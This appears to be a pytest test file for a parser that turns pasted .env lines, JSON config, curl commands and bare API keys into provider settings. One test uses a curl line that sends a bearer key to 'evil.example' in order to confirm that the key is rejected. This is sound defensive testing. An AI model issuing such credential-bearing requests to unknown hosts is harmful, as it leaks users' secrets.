"""Recognising what was pasted: config.json, .env, curl, bare key."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from facio_site.strictjson import BadDocument
from providers.kinds import KINDS
from providers.spec.kind import ProviderSpec
from providers.spec.secret import Secret
from routing.config.entries import env_name
from routing.config.env.beside import env_text
from routing.config.pasted import Ignored, read_pasted
from routing.config.pasted.lines import read_lines
from tests.routing.config.pasting import read, told

# --- which of them --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ('\ufeff {"providers": {}}', "config"),
        ("OPENAI_API_KEY=sk-1", "env"),
        ("# mine\n\nexport FACIO_MODEL='gpt-5'\n", "env"),
        ("$ curl https://api.openai.com/v1/models -H 'Authorization: Bearer sk-1'", "curl"),
        ("  sk-or-v1-abc  \n", "key"),
        ("Bearer gsk_abc", "key"),
        ("c2VjcmV0PT0=", "key"),
    ],
)
def test_each_form_is_recognised(text: str, source: str) -> None:
    assert read(text).source == source


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty"),
        ("  \n", "empty"),
        ("[1]", "not_object"),
        ("{", "json_end"),
        ("# only this", "only_comments"),
        ("https://api.openai.com/v1", "is_address"),
        ("${OPENAI_API_KEY}", "is_variable"),
        ("$OPENAI_API_KEY", "is_variable"),
        ("sk-xxx", "is_example"),
        ("two words", "not_known"),
        ("clé", "not_known"),
        ("a\nb", "not_known"),
        ("A=1\nB=\0", "bad_text"),
        ("curl 'https://api.openai.com/v1", "bad_curl"),
        ("curl -s", "bad_curl"),
        ("curl http://[bad", "bad_curl"),
        ("curl https://h/ " + "x" * 70_000, "bad_curl"),
    ],
)
def test_what_is_none_of_them_is_told_so(text: str, code: str) -> None:
    with pytest.raises(BadDocument) as caught:
        read(text)
    assert caught.value.code == code


def test_bytes_that_are_no_text_or_too_many_are_refused() -> None:
    for data, code in ((b"A=1\n\xff", "not_utf8"), (b"x" * 1_000_001, "too_large")):
        with pytest.raises(BadDocument) as caught:
            read_pasted(data, specs=KINDS)
        assert caught.value.code == code


@given(text=st.text(max_size=80))
def test_any_text_is_read_or_refused_and_never_shown(text: str) -> None:
    try:
        shown = repr(read(text))
    except BadDocument as error:
        shown = error.sentence
    except UnicodeEncodeError:
        return
    assert len(text) < 40 or text not in shown


# --- .env -----------------------------------------------------------------------------------


def test_the_quickstart_names_fill_their_places() -> None:
    pasted = read(
        "OPENROUTER_API_KEY=sk-or-1\nANTHROPIC_API_KEY='sk-ant-1'\n"
        'OPENAI_API_KEY="sk-1" # mine\nFACIO_MODEL=anthropic/claude-opus-4-7\n'
    )
    assert pasted.document == {
        "providers": {
            "openrouter": {"apiKey": "sk-or-1"},
            "anthropic": {"apiKey": "sk-ant-1"},
            "openai": {"apiKey": "sk-1"},
        },
        "agents": {"defaults": {"model": "anthropic/claude-opus-4-7"}},
    }
    assert pasted.ignored == ()


@pytest.mark.parametrize(
    "spec", [s for s in KINDS.values() if not s.is_oauth], ids=lambda s: s.kind
)
def test_every_kinds_key_name_is_known(spec: ProviderSpec) -> None:
    document = read(f"{env_name(spec)}=k1").document
    assert document == {"providers": {spec.kind: {"apiKey": "k1"}}}


@pytest.mark.parametrize("name", ["ZAI_API_KEY", "ZHIPUAI_API_KEY", "ZHIPU_API_KEY"])
def test_both_zhipu_names_are_read(name: str) -> None:
    assert read(f"{name}=z1").document == {"providers": {"zhipu": {"apiKey": "z1"}}}


def test_two_names_of_one_key_with_two_values_are_told() -> None:
    pasted = read("ZAI_API_KEY=a\nZHIPUAI_API_KEY=b\n")
    assert pasted.document == {"providers": {"zhipu": {"apiKey": "a"}}}
    assert told(pasted) == {"ZHIPUAI_API_KEY": "outranked"}


def test_cloud_names_fill_bedrock_and_its_secrets_stay_beside_the_document() -> None:
    pasted = read(
        "AWS_ACCESS_KEY_ID=AKIA1\nAWS_SECRET_ACCESS_KEY=s1\nAWS_REGION=eu-west-1\n"
        "AWS_BEARER_TOKEN_BEDROCK=ABSK1"
    )
    assert pasted.document == {"providers": {"bedrock": {"region": "eu-west-1", "apiKey": "ABSK1"}}}
    assert pasted.secrets == {
        "bedrock": {"access_key_id": Secret("AKIA1"), "secret_access_key": Secret("s1")}
    }
    assert "AKIA1" not in repr(pasted)


def test_nested_names_become_paths() -> None:
    pasted = read(
        "FACIO_PROVIDERS__LM_STUDIO__API_BASE=http://h:1234/v1\n"
        "FACIO_AGENTS__DEFAULTS__SUBAGENT_MODEL=42\n"
        "FACIO_TOOLS__EXEC__ENABLE=true\n"
        'FACIO_PROVIDERS__OPENAI__EXTRA_HEADERS={"X-A": "b"}\n'
        'FACIO_TOOLS__X=1}, "y": {\n'
    )
    assert pasted.document == {
        "providers": {
            "lm_studio": {"api_base": "http://h:1234/v1"},
            "openai": {"extra_headers": {"X-A": "b"}},
        },
        "agents": {"defaults": {"subagent_model": "42"}},
        "tools": {"exec": {"enable": True}, "x": '1}, "y": {'},
    }


def test_a_name_with_very_many_parts_is_no_path() -> None:
    pasted = read("FACIO_" + "A__" * 5000 + "B=1")
    assert pasted.document == {}
    assert [ignored.code for ignored in pasted.ignored] == ["agent_environment"]


def test_names_that_are_not_ours_are_named_with_the_reason() -> None:
    pasted = read(
        "PATH=/bin\nFACIO_MANAGEMENT_TOKEN=t\nOPENAI_API_KEY=\nthis is no line\n"
        "GROQ_API_KEY='never closed\n"
    )
    assert pasted.document == {}
    assert told(pasted) == {
        "line 4": "bad_line",
        "line 5": "open_quote",
        "PATH": "unknown_name",
        "FACIO_MANAGEMENT_TOKEN": "agent_environment",
        "OPENAI_API_KEY": "empty",
    }


def test_references_are_text_and_never_expanded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME_SECRET", "leak")
    pasted = read("OPENAI_API_KEY=${HOME_SECRET}\nGROQ_API_KEY=$HOME_SECRET")
    assert pasted.document["providers"]["openai"]["apiKey"] == "${HOME_SECRET}"
    assert pasted.ignored == (Ignored("GROQ_API_KEY", "variable", {"form": "${HOME_SECRET}"}),)


@given(
    value=st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=30),
    name=st.from_regex(r"[A-Z_][A-Z0-9_]{0,8}", fullmatch=True),
)
def test_what_env_text_writes_is_read_back(value: str, name: str) -> None:
    lines = read_lines(env_text({name: Secret(value)}))
    assert [(one.name, one.value) for one in lines.assignments] == [(name, value)]
    assert lines.left == []


# --- keys -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "kind"),
    [
        ("sk-or-v1-abc", "openrouter"),
        ("sk-ant-api03-abc", "anthropic"),
        ("sk-proj-abc", "openai"),
        ("gsk_abc", "groq"),
        ("hf_abc", "huggingface"),
        ("AIzaSyabc", "gemini"),
        ("ABSKabc", "bedrock"),
        ("'sk-or-v1-abc'", "openrouter"),
    ],
)
def test_a_key_is_recognised_by_its_prefix(key: str, kind: str) -> None:
    assert list(read(key).document["providers"]) == [kind]


def test_a_key_that_many_vendors_could_have_made_asks_whose_it_is() -> None:
    pasted = read("sk-abcdef")
    assert pasted.document == {}
    assert set(pasted.likely) == {"openai", "deepseek", "dashscope", "moonshot"}
    assert set(pasted.candidates[:4]) == set(pasted.likely)
    assert {"mistral", "custom"} < set(pasted.candidates)  # it may be anybody's all the same
    assert len(set(pasted.candidates)) == len(pasted.candidates)
    assert told(pasted) == {"key": "ambiguous_key"}
    assert read("sk-abcdef", "deepseek").document == {
        "providers": {"deepseek": {"apiKey": "sk-abcdef"}}
    }


def test_a_key_of_a_vendor_that_is_none_of_ours_is_told_so() -> None:
    assert read("xai-abc").ignored == (Ignored("key", "foreign_key", {"owner": "xAI"}),)


def test_a_key_without_any_known_form_may_be_anybodys() -> None:
    pasted = read("0123456789abcdef")
    assert pasted.likely == ()
    assert "mistral" in pasted.candidates
    assert "openai_codex" not in pasted.candidates


# --- curl -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "kind", "entry"),
    [
        (
            "curl https://openrouter.ai/api/v1/chat/completions -H 'Authorization: Bearer sk-or-1' "
            '-d \'{"model": "x"}\'',
            "openrouter",
            {"apiKey": "sk-or-1", "apiBase": "https://openrouter.ai/api/v1"},
        ),
        (
            'curl https://api.anthropic.com/v1/messages \\\n  --header "x-api-key: sk-ant-1" \\\n'
            '  --header "anthropic-version: 2023-06-01"',
            "anthropic",
            {"apiKey": "sk-ant-1", "apiBase": "https://api.anthropic.com"},
        ),
        (
            "curl 'https://generativelanguage.googleapis.com/v1beta/models?key=AIza1'",
            "gemini",
            {
                "apiKey": "AIza1",
                "apiBase": "https://generativelanguage.googleapis.com/v1beta/openai/",
            },
        ),
        (
            "curl -XPOST https://ark.ap-southeast.bytepluses.com/api/coding/v3/chat/completions "
            "-H'Authorization: Bearer k1'",
            "byteplus_coding_plan",
            {
                "apiKey": "k1",
                "apiBase": "https://ark.ap-southeast.bytepluses.com/api/coding/v3",
            },
        ),
        (
            "curl https://api.minimaxi.com/v1/models --header='Authorization: Bearer k1'",
            "minimax",
            {"apiKey": "k1", "apiBase": "https://api.minimaxi.com/v1"},
        ),
        (
            "curl https://bedrock-runtime.eu-west-1.amazonaws.com/model/x/converse "
            "-H 'Authorization: Bearer ABSK1'",
            "bedrock",
            {"apiKey": "ABSK1", "region": "eu-west-1"},
        ),
        (
            "curl http://localhost:11434/v1/models",
            "ollama",
            {"apiBase": "http://localhost:11434/v1"},
        ),
        (
            "curl https://llm.example.org/api/v9/chat/completions -H 'Authorization: Bearer k1'",
            "custom",
            {"apiKey": "k1", "apiBase": "https://llm.example.org/api/v9"},
        ),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 25 else "",
)
def test_a_curl_line_is_recognised_by_its_host(line: str, kind: str, entry: dict[str, str]) -> None:
    assert read(line).document == {"providers": {kind: entry}}


def test_a_curl_line_for_azure_names_its_deployment() -> None:
    pasted = read(
        "curl 'https://x.openai.azure.com/openai/deployments/gpt-main/chat/completions"
        "?api-version=2024-10-21' -H 'api-key: az-1'"
    )
    assert pasted.document == {
        "providers": {"azure_openai": {"apiBase": "https://x.openai.azure.com", "apiKey": "az-1"}}
    }
    assert pasted.deployments == ("gpt-main",)


@pytest.mark.parametrize(
    ("header", "code"),
    [
        ("Authorization: Bearer $OPENAI_API_KEY", "variable"),
        ("Authorization: Bearer <your key>", "no_real_key"),
        ("Accept: x", "no_key"),
        ("Authorization: Bearer a b", "bad_key"),
    ],
)
def test_a_curl_line_without_a_real_key_gives_the_address_only(header: str, code: str) -> None:
    pasted = read(f"curl https://api.openai.com/v1/models -H '{header}'")
    assert pasted.document == {"providers": {"openai": {"apiBase": "https://api.openai.com/v1"}}}
    assert told(pasted) == {"key": code}


def test_a_known_key_on_its_way_to_a_strange_host_is_not_taken() -> None:
    pasted = read("curl https://evil.example/v1 -H 'Authorization: Bearer sk-or-v1-1'")
    assert pasted.document == {}
    assert told(pasted) == {"evil.example": "unknown_host"}
